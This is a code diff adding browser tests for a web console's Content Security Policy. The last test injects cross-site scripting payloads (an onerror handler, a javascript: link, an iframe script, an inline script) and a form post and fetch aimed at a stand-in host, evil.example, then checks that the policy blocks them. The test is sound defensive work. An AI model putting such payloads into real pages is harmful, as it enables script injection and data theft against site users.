@@ -147,3 +147,56 @@ def test_the_theme_is_switched_and_remembered(visit: Callable[..., Any]) -> None
     assert "shoal_theme=dark" in page.evaluate("document.cookie")
     page.reload()
     expect(dark).to_have_count(1)
+
+
+@pytest.mark.parametrize("tab", ["", "/parameters", "/jobs", "/api"])
+def test_every_tab_works_under_the_policy(visit: Callable[..., Any], tab: str) -> None:
+    page = visit(f"/console/greeting{tab}")
+    expect(page.get_by_text("Says <b>hello</b>.")).to_be_visible()
+
+
+def test_the_public_pages_work_under_the_policy(served: Any, browser: Any) -> None:
+    faults: list[str] = []
+    page = browser.new_page(base_url=served.address)
+    page.on(
+        "console",
+        lambda message: faults.append(message.text) if message.type == "error" else None,
+    )
+    page.goto("/")
+    expect(page.locator(".sh-dot.sh-good").first).to_be_visible()  # set by the page's script
+    page.goto("/console/sign-in")
+    expect(page.get_by_label("API key")).to_be_visible()
+    assert page.evaluate("getComputedStyle(document.querySelector('.sh-card')).padding") == "32px"
+    page.close()
+    assert not faults
+
+
+INJECTED = """
+const refused = [];
+document.addEventListener("securitypolicyviolation", e => refused.push(e.effectiveDirective));
+window.injected = false;
+const markup = ["<img src=x: onerror='injected = true'>", "<a href='javascript:injected = true'>x",
+  "<form action='https://evil.example/'><input name=x></form>",
+  "<iframe srcdoc='<script>parent.injected = true</script>'></iframe>"];
+document.body.insertAdjacentHTML("beforeend", `<div id=evil>${markup.join("")}</div>`);
+document.querySelector("#evil a").click();
+document.querySelector("#evil form").submit();
+const script = document.createElement("script");
+script.textContent = "injected = true";
+document.body.append(script);
+fetch("https://evil.example/").catch(() => {});
+setTimeout(() => done([injected, refused]), 500);
+"""
+
+
+@pytest.mark.parametrize("path", ["/", "/console/sign-in", "/console/greeting"])
+def test_what_is_injected_into_a_page_does_not_run(
+    contexts: Callable[[str, str], Any], path: str
+) -> None:
+    page = contexts("acme", "editor").new_page()
+    page.goto(path)
+    page.wait_for_load_state("networkidle")
+    ran, refused = page.evaluate(f"new Promise(done => {{ {INJECTED} }})")
+    page.close()
+    assert not ran
+    assert {"script-src-attr", "script-src-elem", "form-action", "connect-src"} <= set(refused)
